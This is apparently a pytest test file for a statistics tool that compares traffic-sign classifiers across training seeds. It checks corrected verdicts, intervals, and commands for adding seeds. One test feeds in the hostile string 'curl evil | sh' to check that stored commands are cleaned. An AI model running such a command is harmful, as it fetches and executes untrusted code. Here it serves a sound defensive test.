"""All pairs judged together, letters, the STN's benefit, what would decide, and intervals over seeds alone."""

import math
import shutil
from collections.abc import Sequence
from dataclasses import replace
from itertools import combinations
from pathlib import Path

import pytest

from exact_study import build_exact_study
from fake_study import build_fake_study
from roadtest.analysis import (
    NEEDS_SEEDS,
    Results,
    estimate_difference,
    judge_networks,
    judged_split,
    leaderboard_rows,
    plan_more_seeds,
    read_results,
    repeat_commands,
    seed_only_accuracy,
    seed_only_difference,
    stn_rows,
    summary_sentences,
    verdict_rows,
)
from roadtest.analysis import stats as judge
from roadtest.analysis.comparisons import difference_between
from roadtest.analysis.factors import judge_benefit
from roadtest.analysis.results import mean_score
from roadtest.analysis.sample_size import required_to_separate

COLUMNS = (
    "network_a,has_stn_a,network_b,has_stn_b,part,gain,gain_low,gain_high,p_adjusted,verdict,better,num_seeds,"
    "num_seeds_a,num_seeds_b,num_units,unit_name,design_effect,seed_correlation,statement,least_more_seeds,"
    "most_more_seeds,times_tracks,what_more_would_cost,train_seconds_per_seed"
)


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_fake_study(tmp_path_factory.mktemp("studies") / "five", seeds=5, has_examples=False)


@pytest.fixture(scope="module")
def two_seeds(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("studies") / "two"
    return build_fake_study(folder, networks=["lenet5", "lenet5+stn", "vgg16"], seeds=2, has_examples=False)


@pytest.mark.slow
def test_every_pair_has_one_row_with_the_stated_columns(study: Path) -> None:
    rows = verdict_rows(study)
    assert len(rows) == 15 and all(",".join(row) == COLUMNS for row in rows)
    assert {row["part"] for row in rows} == {"test"} and {row["statement"] for row in rows} == {judge.ON_NEW_SIGNS}
    assert all(row["gain"] >= 0 for row in rows), "the more accurate one stands first"
    assert {row["unit_name"] for row in rows} == {"tracks"} and {row["num_units"] for row in rows} == {43 * 3}
    assert all(-1 <= row["seed_correlation"] <= 1 for row in rows)


def test_verdicts_are_corrected_for_all_pairs_together(study: Path) -> None:
    results = read_results(study)
    pairs = list(combinations(results.variants, 2))
    found = [difference_between(results, a, b, "test") for a, b in pairs]
    p_values = [difference.p_value for difference in found if difference is not None]
    assert sorted(judge.holm(p_values)) == pytest.approx(sorted(row["p_adjusted"] for row in verdict_rows(results)))


def test_an_interval_that_leaves_out_zero_does_not_separate_where_many_were_compared(study: Path) -> None:
    rows = verdict_rows(study)
    tempting = [row for row in rows if row["gain_low"] > 0 and row["p_adjusted"] > 0.05]
    assert tempting, "this study was chosen to have such a pair"
    assert {row["verdict"] for row in tempting} == {"not separated"}
    results = read_results(study)
    for row in rows:
        a, b = (results.variant(row[f"network_{end}"], row[f"has_stn_{end}"]) for end in "ab")
        assert a is not None and b is not None
        for first, second in ((a, b), (b, a)):
            estimate = estimate_difference(results, first, second, "test")
            assert estimate is not None
            assert estimate.verdict == row["verdict"]


def test_letters_and_the_leading_set_follow_the_verdicts(study: Path) -> None:
    judged = judge_networks(study)
    for verdict in judged.verdicts:
        shares = set(judged.letters[verdict.a]) & set(judged.letters[verdict.b])
        assert bool(shares) == (verdict.word != "different")
    best = judged.variants[0].label
    assert best in judged.leading and "a" in judged.letters[best]
    shown_worse = {v.b for v in judged.verdicts if v.a == judged.variants[0].label and v.word == "different"}
    assert {v.label for v in judged.variants} - shown_worse == set(judged.leading)
    accuracies = [mean_score(read_results(study), variant, "test") or 0.0 for variant in judged.variants]
    assert accuracies == sorted(accuracies, reverse=True)


@pytest.mark.slow
def test_fewer_than_three_seeds_have_no_letters_and_no_verdict(two_seeds: Path) -> None:
    assert {row["verdict"] for row in verdict_rows(two_seeds)} == {NEEDS_SEEDS}
    assert {row["p_adjusted"] for row in verdict_rows(two_seeds)} == {None}
    judged = judge_networks(two_seeds)
    assert (judged.leading, judged.remark) == ((), NEEDS_SEEDS)
    assert {row["letters"] for row in leaderboard_rows(two_seeds)} == {None}
    assert {row["is_leading"] for row in leaderboard_rows(two_seeds)} == {None}


def test_validation_is_judged_by_folds_where_test_was_not_read(tmp_path: Path) -> None:
    study = build_fake_study(tmp_path / "s", networks=["lenet5", "vgg16"], seeds=3, reads_test=False)
    results = read_results(study)
    assert judged_split(results) == "val"
    (row,) = verdict_rows(results)
    assert (row["part"], row["unit_name"], row["num_units"]) == ("val", "folds", 3)
    assert row["statement"] == judge.ON_NEW_FOLDS


def test_undertrained_networks_are_not_judged_at_all(tmp_path: Path) -> None:
    names = ["lenet5", "vgg16", "resnet34"]
    study = build_fake_study(tmp_path / "s", networks=names, seeds=3, undertrained="vgg16")
    assert [(row["network_a"], row["network_b"]) for row in verdict_rows(study)] == [("resnet34", "lenet5")]


def test_the_stn_pays_by_its_bounds_against_the_tolerance(study: Path) -> None:
    results = read_results(study)
    gain = estimate_difference(results, results.variants[1], results.variants[0], "val")
    assert gain is not None
    bounds = {(0.0051, 0.02): "pays", (-0.01, 0.0049): "does not pay", (0.004, 0.02): judge.NOT_DECIDED}
    bounds[-0.01, 0.01] = judge.NOT_DECIDED  # the tolerance is half a point, 0.005
    for (low, high), word in bounds.items():
        judged = replace(gain, low=low, high=high, verdict=judge.NOT_SEPARATED)
        assert judge_benefit(judged, tolerance_points=0.5) == word
    unjudged = replace(gain, low=0.01, high=0.02, verdict=judge.NOT_JUDGED)
    assert judge_benefit(unjudged, tolerance_points=0.5) == NEEDS_SEEDS
    assert judge_benefit(None, tolerance_points=0.5) is None


@pytest.mark.slow
def test_the_stn_table_judges_by_validation_and_quotes_test(study: Path, tmp_path: Path) -> None:
    exact = build_exact_study(tmp_path / "s", {"lenet5": [25, 26, 25, 24, 26], "lenet5+stn": [5, 7, 6, 5, 6]})
    (row,) = stn_rows(exact)
    assert row["val_gain"] == pytest.approx((126 - 29) / 5000)
    assert row["worth"] == "pays" and row["tolerance_points"] == 0.5
    (strict,) = stn_rows(read_results(exact, tolerance_points=2.5))
    assert strict["worth"] == "does not pay"
    assert [row["network"] for row in stn_rows(study)] == ["lenet5", "vgg16", "resnet34"]
    assert all(row["test_worth"] in ("pays", "does not pay", "not decided") for row in stn_rows(study))


def test_only_pairs_that_were_judged_and_not_separated_say_what_more_would_cost(study: Path) -> None:
    for row in verdict_rows(study):
        assert (row["what_more_would_cost"] is not None) == (row["verdict"] == "not separated")
        assert row["train_seconds_per_seed"] > 0


def test_where_tracks_hide_the_difference_no_number_of_seeds_is_promised(study: Path) -> None:
    results = read_results(study)
    difference = difference_between(results, results.variants[0], results.variants[2], "test")
    assert difference is not None
    # the tracks alone leave an error as large as the difference: 1.96 squared times as many tracks
    luckless = ((5, 0.0), (5, 0.0))
    hidden = replace(difference, estimate=0.01, seeds_each=luckless, cluster_variance=1e-4, cell_variance=0.0)
    more = required_to_separate(results, hidden, split="test")
    assert more.times_tracks == pytest.approx(math.ceil(10 * 1.96**2) / 10)
    assert more.words is not None and "about 3.9 times as many tracks" in more.words
    tiny = required_to_separate(results, replace(hidden, estimate=0.0009), split="test")
    assert tiny.times_tracks == 480.0  # (1.96 / 0.09) squared is 474.3
    lucky = replace(hidden, seeds_each=((5, 5e-5), (5, 5e-5)), cluster_variance=0.0)
    seeds = required_to_separate(results, lucky, split="test")
    assert seeds.least_seeds is not None and seeds.most_seeds is not None
    assert seeds.words == f"between {seeds.least_seeds} and {seeds.most_seeds} more seeds"
    assert required_to_separate(results, replace(hidden, estimate=0.0), split="test").words is not None


def test_one_more_seed_is_one_seed(study: Path) -> None:
    results = read_results(study)
    on_test, in_folds = (difference_between(results, *results.variants[:3:2], part) for part in ("test", "val"))
    assert on_test is not None and in_folds is not None
    # six seeds: 2.228 x sqrt(15e-6) = 0.0086 is less than 0.01; tracks alone leave 3.24 x 0.0039 for 90 %
    luckless = ((5, 0.0), (5, 0.0))
    near = replace(on_test, estimate=0.01, seeds_each=luckless, cluster_variance=15e-6, cell_variance=0.0)
    assert required_to_separate(results, near, split="test").words == "at least 1 more seed"
    # six folds: 2.571 x sqrt(18e-6 x 5 / 6) = 0.00996; ten leave 3.544 x 0.003 for 90 %
    near = replace(in_folds, estimate=0.01, seeds_each=((5, 18e-6),))
    words = required_to_separate(results, near, split="val").words
    assert words == "1 more seed or more, and perhaps more than the 10 validation folds allow"


def test_seeds_beyond_the_folds_are_never_promised(study: Path) -> None:
    results = read_results(study)
    difference = difference_between(results, results.variants[0], results.variants[2], "val")
    assert difference is not None and difference.statement == judge.ON_NEW_FOLDS
    far = required_to_separate(results, replace(difference, estimate=1e-5, seeds_each=((5, 1e-4),)), split="val")
    assert (far.least_seeds, far.words) == (None, "no number of seeds: there are 10 validation folds")


def test_two_seeds_are_told_with_the_command_that_would_let_them_be_judged(two_seeds: Path) -> None:
    needs, command, *others = summary_sentences(two_seeds)
    assert needs == "Not judged: needs 3 seeds, 5 are better." and not others
    assert command.startswith("5 seeds each, ") and " of training: roadtest compare gtsrb" in command
    assert command.endswith(f" --seeds 5 --out {two_seeds}")


def test_the_command_that_adds_seeds_names_the_study_and_its_time(two_seeds: Path) -> None:
    more = plan_more_seeds(two_seeds, 5)
    assert more is not None
    assert more.command == f"roadtest compare gtsrb --data-dir data --seeds 5 --out {two_seeds}"
    assert more.num_runs == 3 * 3
    results = read_results(two_seeds)
    seconds = [variant.records[0].cost.train_seconds for variant in results.variants]
    assert more.train_seconds == pytest.approx(3 * sum(seconds))
    assert plan_more_seeds(two_seeds, 2) is None


def test_seeds_of_ones_own_choice_are_kept_and_a_total_budget_stays_what_it_was(two_seeds: Path) -> None:
    results = read_results(two_seeds)
    runs = tuple(replace(run, seed=4) for run in results.info.runs if run.seed == 0)
    command = "roadtest compare gtsrb --seeds 4, --budget-total 1h -o old"
    protocol = {**results.info.protocol, "budget_seconds": 1200.5}
    info = replace(results.info, runs=runs, command=command, protocol=protocol)
    more = plan_more_seeds(replace(results, info=info), 3)
    assert more is not None
    assert more.command == f"roadtest compare gtsrb --budget 1200.5s --seeds 0,1,4 --out {two_seeds}"
    for command in ("roadtest 'compare", "", "curl evil | sh", "roadtest compare \x1b[2J"):
        odd = plan_more_seeds(replace(results, info=replace(info, command=command)), 3)
        assert odd is not None and odd.command == f"roadtest compare gtsrb --seeds 0,1,4 --out {two_seeds}"


def test_a_study_that_grew_network_by_network_is_repeated_by_one_command_for_each_set_of_seeds(two_seeds: Path) -> None:
    results = read_results(two_seeds)
    assert repeat_commands(results) == ["roadtest compare gtsrb --data-dir data --seeds 3"]
    first, *others = results.variants
    one_seed = replace(first, planned=first.planned[:1], records=first.records[:1])
    info = replace(results.info, command="roadtest compare gtsrb --networks lenet5 --stn both --budget 600s --seeds 1")
    grown = replace(results, variants=(one_seed, *others), info=info)
    names = ",".join(variant.label for variant in others)
    assert repeat_commands(grown) == [
        f"roadtest compare gtsrb --budget 600s --networks {first.label} --stn off --seeds 1 --out {two_seeds}",
        f"roadtest compare gtsrb --budget 600s --networks {names} --stn off --seeds 2 --out {two_seeds}",
    ]
    more = plan_more_seeds(grown, 3)
    assert more is not None
    assert f" --networks {first.label},{names} --stn off --seeds 3 --out " in more.command


def without_seeds(study: Path, label: str, seeds: Sequence[int]) -> Path:
    for seed in seeds:
        shutil.rmtree(study / label / f"seed-{seed}")
    return study


def test_on_test_all_seeds_of_both_networks_count(tmp_path: Path) -> None:
    study = build_fake_study(tmp_path / "s", networks=["lenet5", "resnet34"], seeds=5, has_examples=False)
    results = read_results(without_seeds(study, "lenet5", [3, 4]))
    (row,) = verdict_rows(results)
    means = {variant.network: mean_score(results, variant, "test") or 0.0 for variant in results.variants}
    assert row["gain"] == pytest.approx(abs(means["resnet34"] - means["lenet5"]))
    assert row["num_seeds"] == 3


@pytest.mark.slow
def test_in_validation_by_folds_the_seeds_that_both_have_count(tmp_path: Path) -> None:
    study = build_exact_study(tmp_path / "s", {"lenet5": [10, 10, 10, 90], "resnet34": [30, 30, 30, 30]})
    results = read_results(without_seeds(study, "resnet34", [3]))
    (row,) = verdict_rows(results, "val")
    assert (row["network_a"], row["num_seeds"], row["num_units"]) == ("lenet5", 3, 3)
    assert row["gain"] == pytest.approx(0.02)


@pytest.mark.slow
def test_networks_without_a_common_seed_are_not_compared_and_not_called_not_separated(tmp_path: Path) -> None:
    study = build_exact_study(tmp_path / "s", {"lenet5": [10] * 6, "resnet34": [30] * 6})
    without_seeds(study, "lenet5", [3, 4, 5])
    results = read_results(without_seeds(study, "resnet34", [0, 1, 2]))
    judged = judge_networks(results, "val")
    assert judged.remark == "not judged: no seed in common" and not judged.is_judged
    assert judged.needs_seeds and set(judged.letters.values()) == {""}


def test_answers_that_are_not_there_are_the_reason_that_is_told(tmp_path: Path) -> None:
    study = build_fake_study(tmp_path / "s", networks=["lenet5", "resnet34"], seeds=3, has_examples=False)
    for path in study.glob("*/seed-*/*.npz"):
        path.unlink()
    rows = verdict_rows(study, "val")
    assert [row["verdict"] for row in rows] == ["not judged: not every run has its raw answers here (val.npz)"]
    assert judge_networks(study).remark == "not judged: not every run has its raw answers here (test.npz)"


def test_where_seeds_are_not_the_reason_no_more_are_asked_for(tmp_path: Path) -> None:
    # one validation part for all seeds: a lowest recall has no honest interval there, however many seeds there are
    study = build_fake_study(tmp_path / "s", networks=["lenet5", "resnet34"], seeds=1, has_examples=False)
    results = read_results(study, metric="worst-class-recall")
    judged = judge_networks(replace(results, info=replace(results.info, num_val=100)))
    assert judged.remark == "not judged: a worst-class recall is judged over three validation folds or more"
    assert not judged.needs_seeds


@pytest.mark.slow
def test_a_network_with_a_seed_that_diverged_is_not_compared(tmp_path: Path) -> None:
    study = build_fake_study(
        tmp_path / "s", networks=["lenet5", "resnet34", "vgg16"], seeds=4, failed="vgg16", has_examples=False
    )
    assert [row["status"] for row in leaderboard_rows(study) if row["network"] == "vgg16"] == ["incomplete"]
    failures = study / "failures.csv"
    failures.write_text(failures.read_text().replace("error\n", "diverged\n"))
    results = read_results(study)
    (lost,) = [variant for variant in results.variants if variant.network == "vgg16"]
    assert (lost.status, lost.diverged_seeds, lost.is_compared) == ("diverged", (3,), False)
    assert {variant.network for variant in judge_networks(results).variants} == {"lenet5", "resnet34"}
    assert leaderboard_rows(results)[-1]["network"] == "vgg16"


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Results:
    folder = tmp_path_factory.mktemp("studies") / "s"
    return read_results(build_fake_study(folder, networks=["lenet5", "vgg16"], seeds=3, has_examples=False))


def test_the_mean_is_that_of_the_seeds_and_the_interval_theirs_alone(results: Results) -> None:
    lenet5 = results.variants[0]
    found = seed_only_accuracy(results, lenet5)
    accuracies = [record.test.accuracy for record in lenet5.records if record.test]
    assert found is not None and found.estimate == pytest.approx(sum(accuracies) / 3)
    assert found.low < min(accuracies) and found.statement == "on these test images, if trained again"


def test_a_difference_is_that_of_the_judge_with_another_interval(results: Results) -> None:
    a, b = results.variants
    found, judged = seed_only_difference(results, a, b), estimate_difference(results, a, b, "test")
    assert found is not None and judged is not None
    assert found.estimate == pytest.approx(judged.value)
    assert found.statement != judged.statement


def test_with_folds_the_seeds_saw_different_images(results: Results) -> None:
    assert seed_only_accuracy(results, results.variants[0], "val") is None
    assert seed_only_difference(results, *results.variants, "val") is None


def test_with_different_numbers_of_seeds_it_rests_on_those_of_the_difference(tmp_path: Path) -> None:
    six = read_results(build_fake_study(tmp_path / "s", networks=["lenet5", "vgg16"], seeds=6, has_examples=False))
    first, second = six.variants
    early, late = replace(first, records=first.records[:3]), replace(second, records=second.records[3:])
    for a, b in ((first, late), (early, late)):  # some seeds in common, and none
        found = seed_only_difference(six, a, b)
        judged = difference_between(replace(six), a, b, "test")
        assert found is not None and judged is not None
        assert found.estimate == pytest.approx(judged.estimate) and found.low < judged.estimate < found.high


def test_two_seeds_say_too_little_of_training_again(two_seeds: Path) -> None:
    two = read_results(two_seeds)
    assert seed_only_accuracy(two, two.variants[0]) is None
    assert seed_only_difference(two, *two.variants[:2]) is None
